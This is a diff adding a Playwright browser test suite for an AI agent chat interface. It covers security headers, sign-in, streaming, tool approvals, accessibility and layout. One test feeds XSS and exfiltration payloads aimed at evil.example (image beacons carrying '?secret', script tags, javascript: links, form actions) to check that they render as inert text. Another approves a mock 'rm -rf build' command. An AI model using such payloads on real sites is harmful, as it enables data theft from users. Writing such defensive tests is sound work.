@@ -1,0 +1,405 @@
+/** Tests the page in Chromium, against the shared server. Without one (apt-get install chromium-headless-shell) only the served bytes are tested. */
+
+import { readFileSync } from 'node:fs'
+import { createRequire } from 'node:module'
+import { chromium as playwright, type Browser, type BrowserContext, type Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { chromium } from './support/chromium.ts'
+import { type Client, eventually, newTenant } from './support/client.ts'
+import { owner, server } from './support/here.ts'
+
+const origin = server.url.replace('127.0.0.1', 'localhost')
+const nobody = owner.as(undefined)
+
+describe('the bytes of the page', () => {
+  it('come under a policy that allows our own files alone', async () => {
+    const { status, headers, text } = await nobody.get('/')
+    expect(status).toBe(200)
+    const policy = headers.get('content-security-policy') ?? ''
+    expect(policy).toContain(`default-src 'none'; script-src 'self'; style-src 'self'`)
+    expect(policy).toContain(`require-trusted-types-for 'script'; trusted-types 'none'`)
+    expect(policy).toContain(`frame-ancestors 'none'`)
+    expect(policy).not.toMatch(/unsafe|https?:|\*/)
+    expect(headers.get('x-content-type-options')).toBe('nosniff')
+    expect(headers.get('referrer-policy')).toBe('no-referrer')
+    expect(text).not.toMatch(/<script>|<style|style=|onload=|(?:src|href)="(?:https?:)?\/\//)
+  })
+
+  it('are files that never change under their names', async () => {
+    const { text } = await nobody.get('/')
+    const files = [...text.matchAll(/"(\/app\/[^"]+)"/g)].map(([, name = '']) => name)
+    expect(files).toHaveLength(2)
+    for (const name of files) {
+      const { status, headers } = await nobody.get(name)
+      expect([status, headers.get('cache-control')]).toEqual([200, 'public, max-age=31536000, immutable'])
+    }
+  })
+})
+
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+type Watched = { readonly page: Page; readonly requests: string[]; readonly errors: string[] }
+
+describe.skipIf(chromium === undefined)('the page in Chromium', () => {
+  let browser: Browser
+  let tenant: Awaited<ReturnType<typeof newTenant>>
+  let client: Client
+  let context: BrowserContext
+  let main: Watched
+
+  const watch = async (within: BrowserContext): Promise<Watched> => {
+    const page = await within.newPage()
+    page.setDefaultTimeout(30_000)
+    const [requests, errors]: [string[], string[]] = [[], []]
+    page.on('request', (request) => requests.push(request.url()))
+    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
+    page.on('pageerror', (error) => errors.push(error.message))
+    return { page, requests, errors }
+  }
+  const newLink = async (by: Client) => (await by.post('/api/login/links')).json.url.replace('127.0.0.1', 'localhost')
+  const composer = (page: Page) => page.getByRole('textbox', { name: 'Message' })
+  const send = async (page: Page, text: string) => {
+    await composer(page).fill(text)
+    await composer(page).press('Enter')
+  }
+  const openSession = async ({ page }: Watched, id: string) => {
+    await page.goto(`${origin}/#/chat/${id}`)
+    await composer(page).waitFor()
+  }
+  const isIdle = (page: Page) => page.getByRole('button', { name: 'Answer again' }).waitFor()
+  const readLastWord = async (page: Page): Promise<number> =>
+    Number(/(\d+)\s*$/.exec(await page.locator('.block.text').last().innerText())?.[1] ?? -1)
+  /** Colours are all that differs in the dark. */
+  const findViolations = (page: Page, scheme: 'light' | 'dark'): Promise<readonly string[]> =>
+    page.evaluate(
+      `${axe}; axe.run(document, {resultTypes: ['violations']${scheme === 'dark' ? ", runOnly: ['color-contrast']" : ''}}).then(({violations}) => violations.map(({id, nodes}) => id + ': ' + nodes.map(({target}) => target.join(' ')).join(', ')))`,
+    )
+
+  beforeAll(async () => {
+    browser = await playwright.launch({ executablePath: chromium ?? '', args: ['--no-sandbox', '--disable-gpu'] })
+    tenant = await newTenant(owner)
+    client = tenant.client
+    context = await browser.newContext({ locale: 'en-US', viewport: { width: 1280, height: 800 } })
+    main = await watch(context)
+  })
+  afterAll(async () => browser?.close())
+
+  it('signs in with a link, which leaves the address and works once', async () => {
+    const link = await newLink(client)
+    const { page } = main
+    await page.goto(link)
+    await composer(page).waitFor()
+    expect(page.url()).toBe(`${origin}/`)
+    expect(await page.evaluate('document.cookie')).toBe('')
+    const other = await watch(await browser.newContext({ locale: 'en-US' }))
+    await other.page.goto(link)
+    await other.page.getByText('This link is used').waitFor()
+    await other.page.context().close()
+  })
+
+  it('signs in with a key, refuses a wrong one, and goes out when the key is revoked', async () => {
+    const { key } = await newTenant(owner, ['read', 'chat'])
+    const { page } = await watch(await browser.newContext({ locale: 'en-US' }))
+    await page.goto(origin)
+    await page.getByLabel('Key or sign-in link').fill('not-the-key-of-anybody')
+    await page.keyboard.press('Enter')
+    await page.getByRole('alert').waitFor()
+    await page.getByLabel('Key or sign-in link').fill(key)
+    await page.keyboard.press('Enter')
+    await composer(page).waitFor()
+    expect(await page.getByRole('link', { name: 'Owner' }).count()).toBe(0)
+    await owner.send('DELETE', `/api/admin/keys/${key.split('_')[1]}`)
+    await page.getByRole('link', { name: 'Usage' }).click()
+    await page.getByLabel('Key or sign-in link').waitFor()
+    await page.context().close()
+  })
+
+  it('streams an answer, in two tabs alike, goes on after a reload in its midst, and keeps what was said when it stops', async () => {
+    const { page } = main
+    // Far longer than the test: it ends by the button.
+    await send(page, '[[slow ttft=50 chunks=5000 gap=50]] count')
+    await page.getByText('word5 ').waitFor()
+    const { page: other } = await watch(context)
+    await other.goto(page.url())
+    await other.getByText('word8 ').waitFor()
+    await page.reload()
+    await page.getByRole('button', { name: 'Stop' }).waitFor()
+    const said = await readLastWord(other)
+    await eventually(
+      () => readLastWord(page),
+      (last) => last > said,
+    )
+    await page.getByLabel('While it answers, messages').selectOption('queue')
+    await send(page, 'later')
+    await page.getByRole('button', { name: 'Take back' }).click()
+    await eventually(
+      () => other.locator('.queue li').count(),
+      (count) => count === 0,
+    )
+    await page.getByRole('button', { name: 'Stop' }).click()
+    const texts: string[] = []
+    for (const one of [page, other]) {
+      await one.getByText('Stopped. The messages so far are kept.').waitFor()
+      await isIdle(one)
+      await eventually(
+        () => one.locator('.block.text .actions').count(),
+        (count) => count === 1,
+      )
+      texts.push((await one.locator('.block.text').innerText()).trim())
+    }
+    const words = texts[0]?.split(/\s+/) ?? []
+    expect(words).toEqual(words.map((_, at) => `word${at}`))
+    expect([words.length > said, texts[1]]).toEqual([true, texts[0]])
+    await other.close()
+  })
+
+  it('shows an approval in the chat and the inbox, whose buttons are dead at first, and closes it everywhere', async () => {
+    const { page } = main
+    const { page: inbox } = await watch(context)
+    await inbox.goto(`${origin}/#/inbox`)
+    await inbox.getByText('Nothing waits for you.').waitFor()
+    // The first moment of the card is seen by the page itself.
+    await page.evaluate(`new MutationObserver(() => {
+      const button = document.querySelector('[role=alertdialog] button')
+      if (button && window.wasDead === undefined) window.wasDead = button.disabled
+    }).observe(document.body, {subtree: true, childList: true})`)
+    await send(page, '[[call terminal {"command":"rm -rf build"} then say removed]]')
+    await page.getByRole('alertdialog').waitFor()
+    await inbox.getByRole('alertdialog').waitFor()
+    expect(await page.evaluate('window.wasDead')).toBe(true)
+    expect(await inbox.getByRole('alertdialog').innerText()).toContain('rm -rf build')
+    await page.getByRole('button', { name: 'Allow once' }).click()
+    await inbox.getByText('Nothing waits for you.').waitFor()
+    await inbox.close()
+    await page.getByText('removed').last().waitFor()
+    await isIdle(page)
+    await page.locator('.tool summary').last().click()
+    expect(await page.locator('.tool').last().innerText()).toContain('exit_code')
+  })
+
+  it('asks the question of the agent and goes on with the answer', async () => {
+    const { page } = main
+    await send(page, '[[call clarify {"question":"Which colour?","choices":["red","blue"]} then say chosen]]')
+    await page.getByRole('alertdialog').getByRole('button', { name: 'blue' }).click()
+    await page.getByText('chosen').last().waitFor()
+    await isIdle(page)
+    expect(await page.getByRole('alertdialog').count()).toBe(0)
+  })
+
+  it('shows the diff of a change, edits the file, and rolls back', async () => {
+    const { page } = main
+    await send(page, '[[call write_file {"path":"a.txt","content":"one\\ntwo\\n"} then say written]]')
+    await page.getByText('written').last().waitFor()
+    await isIdle(page)
+    await send(
+      page,
+      '[[call patch {"mode":"replace","path":"a.txt","old_string":"two","new_string":"three"} then say patched]]',
+    )
+    await page.getByText('patched').last().waitFor()
+    await isIdle(page)
+    await page.locator('.tool summary').last().click()
+    expect(await page.locator('.diff .added').allInnerTexts()).toContain('+three\n')
+    await page.getByRole('button', { name: 'Files', exact: true }).click()
+    await page.locator('.tree a', { hasText: 'a.txt' }).click()
+    await page.getByRole('textbox', { name: 'a.txt' }).fill('mine\n')
+    await page.getByRole('button', { name: 'Save' }).click()
+    await page.getByText('Saved.').waitFor()
+    await page.getByRole('button', { name: 'Changes' }).click()
+    await page.locator('details summary').last().click()
+    await page.locator('.diff .added', { hasText: 'mine' }).waitFor()
+    await page.getByRole('button', { name: 'Roll back' }).first().click()
+    await page.getByRole('dialog').getByRole('button', { name: 'Roll back' }).click()
+    await page.getByText('turns undone').waitFor()
+  })
+
+  it('branches and edits the last message', async () => {
+    const { page } = main
+    const id = await client.newSession()
+    await openSession(main, id)
+    await send(page, '[[say first]]')
+    await page.locator('.block.text', { hasText: 'first' }).waitFor()
+    await isIdle(page)
+    await page.getByRole('button', { name: 'Edit and send again' }).click()
+    await eventually(
+      () => composer(page).inputValue(),
+      (value) => value === '[[say first]]',
+    )
+    await send(page, '[[say second]]')
+    await page.locator('.block.text', { hasText: 'second' }).waitFor()
+    await isIdle(page)
+    expect(await page.locator('.block.user').count()).toBe(1)
+    await page.getByRole('button', { name: 'Branch here' }).click()
+    await page.waitForURL((url) => !url.href.endsWith(id))
+    await page.locator('.block.text', { hasText: 'second' }).waitFor()
+  })
+
+  it('sends an attached picture, which is there after a reload', async () => {
+    const { page } = main
+    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'p.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') })
+    await page.locator('.attachments img').waitFor()
+    await send(page, '[[say seen]]')
+    await page.locator('.block.text', { hasText: 'seen' }).waitFor()
+    await isIdle(page)
+    await page.reload()
+    const picture = page.locator('.block.user img').last()
+    await picture.waitFor()
+    await eventually(
+      () => picture.evaluate((one) => (one as unknown as { naturalWidth: number }).naturalWidth),
+      (width) => width === 1,
+    )
+    expect(await picture.getAttribute('src')).toMatch(/^\/api\/sessions\//)
+  })
+
+  it('sends what failed while offline once, and nothing while an input method chooses', async () => {
+    const { page } = main
+    const id = await client.newSession()
+    await openSession(main, id)
+    await composer(page).fill('half')
+    await composer(page).dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })
+    expect(await composer(page).inputValue()).toBe('half')
+    await context.setOffline(true)
+    await send(page, '[[say once]]')
+    await page.getByText('Not sent').waitFor()
+    await context.setOffline(false)
+    await page.locator('.toast').getByRole('button', { name: 'Close' }).click()
+    await page.locator('.block.user').getByRole('button', { name: 'Try again' }).click()
+    await page.locator('.block.text', { hasText: 'once' }).waitFor()
+    await isIdle(page)
+    expect((await client.messages(id)).filter(({ role }) => role === 'user')).toHaveLength(1)
+  })
+
+  it('draws the attacks of a model as text: no request, no element, no report', async () => {
+    const { page, errors } = await watch(context)
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    const attacks = [
+      '![a](https://evil.example/p.png?secret)',
+      '<img src=https://evil.example/x.png onerror=alert(1)>',
+      '<script>alert(1)</script><iframe src=https://evil.example></iframe>',
+      '[click](javascript:alert(1))',
+      '<a href="javascript:alert(1)">x</a><style>*{display:none}</style><svg onload=alert(1)>',
+      '![b](data:image/svg+xml;base64,PHN2Zz4=)',
+      '<base href=https://evil.example><form action=https://evil.example><input></form>',
+    ].join('\n\n')
+    const id = await client.newSession()
+    const imported = await client.post('/api/sessions/import', {
+      format: 'talaria.session',
+      version: 1,
+      session: { title: attacks.slice(0, 90) },
+      messages: [
+        { role: 'user', content: attacks },
+        { role: 'assistant', content: attacks, reasoning: attacks },
+      ],
+    })
+    expect([imported.status, id.length > 0]).toEqual([201, true])
+    await page.goto(`${origin}/#/chat/${imported.json.id}`)
+    await page.locator('.block.text .chip').first().waitFor()
+    const elements =
+      'document.querySelectorAll(".list :is(script, iframe, base, form, style, a[href^=javascript], img, svg[onload])").length'
+    expect(await page.evaluate(elements)).toBe(0)
+    expect(asked.filter((url) => !url.startsWith(origin) && !/^(?:data|blob|ws):/.test(url))).toEqual([])
+    expect(errors).toEqual([])
+    await page.close()
+  })
+
+  it('holds 10 000 messages with at most 200 elements, and keeps the place when older ones come', async () => {
+    const { page } = main
+    const messages = Array.from({ length: 10_000 }, (_, at) => ({
+      role: at % 2 ? 'assistant' : 'user',
+      content: `message ${at}`,
+    }))
+    const imported = await client.post('/api/sessions/import', {
+      format: 'talaria.session',
+      version: 1,
+      session: { title: 'Long' },
+      messages,
+    })
+    expect(imported.status).toBe(201)
+    await openSession(main, imported.json.id)
+    await page.getByText('message 9999').waitFor()
+    const count = () => page.locator('.list article').count()
+    expect(await count()).toBeLessThanOrEqual(200)
+    const first = () => page.locator('.list article').first().innerText()
+    for (let turn = 0; turn < 8; turn++) {
+      const before = await first()
+      await page.locator('.list').evaluate((list) => void ((list as unknown as { scrollTop: number }).scrollTop = 300))
+      await eventually(first, (text) => text !== before)
+      expect(await count()).toBeLessThanOrEqual(200)
+    }
+    expect(await page.getByText('message 9999').count()).toBe(0)
+    await page.getByRole('button', { name: 'To the newest message' }).click()
+    await page.getByText('message 9999').waitFor()
+    expect(await count()).toBeLessThanOrEqual(200)
+  })
+
+  it('fits a phone without scrolling sideways', async () => {
+    const narrow = await browser.newContext({
+      locale: 'de-DE',
+      viewport: { width: 390, height: 800 },
+      hasTouch: true,
+      isMobile: true,
+    })
+    const { page } = await watch(narrow)
+    await page.goto(await newLink(client))
+    await page.getByRole('textbox', { name: 'Nachricht' }).waitFor()
+    expect(await page.evaluate('document.documentElement.lang')).toBe('de')
+    for (const screen of ['chat', 'models', 'settings', 'jobs', 'account']) {
+      await page.evaluate(`location.hash = '#/${screen}'`)
+      await page.locator(screen === 'chat' ? '.chat' : '.screen').waitFor()
+      expect([screen, await page.evaluate('document.documentElement.scrollWidth')]).toEqual([screen, 390])
+    }
+    await page.getByRole('button', { name: 'Menü' }).tap()
+    await page.getByRole('link', { name: 'Verbrauch' }).tap()
+    await page.getByRole('heading', { name: 'Verbrauch' }).waitFor()
+    await narrow.close()
+  })
+
+  it.each(['light', 'dark'] as const)('has no violation that axe finds on any screen, %s', async (scheme) => {
+    const within = await browser.newContext({ locale: 'en-US', colorScheme: scheme })
+    const { page, errors } = await watch(within)
+    await page.goto(await newLink(owner))
+    await composer(page).waitFor()
+    const id = await owner.newSession()
+    await owner.chat(
+      id,
+      '[[call write_file {"path":"b.md","content":"# b"} then say **done** `x` [y](https://example.com/)]]',
+    )
+    const found: Record<string, readonly string[]> = { welcome: await findViolations(page, scheme) }
+    const screens = [
+      'inbox',
+      'models',
+      'settings',
+      'usage',
+      'channels',
+      'jobs',
+      'memory',
+      'skills',
+      'owner',
+      'account',
+      'keys',
+    ]
+    for (const screen of [`chat/${id}`, `files/${id}`, ...screens]) {
+      await page.evaluate(`location.hash = '#/${screen}'`)
+      await page
+        .locator(screen.startsWith('chat') ? '.block.text' : '.screen')
+        .first()
+        .waitFor()
+      await eventually(
+        () => page.locator('.skeleton').count(),
+        (count) => count === 0,
+      )
+      if (screen.startsWith('chat')) await page.locator('.tool summary').click()
+      found[screen] = await findViolations(page, scheme)
+    }
+    expect(Object.entries(found).filter(([, violations]) => violations.length)).toEqual([])
+    expect(errors).toEqual([])
+    await within.close()
+  })
+
+  it('asks no foreign host', () => {
+    const foreign = main.requests.filter((url) => !url.startsWith(origin) && !/^(?:data|blob|ws):/.test(url))
+    expect(foreign).toEqual([])
+  })
+})
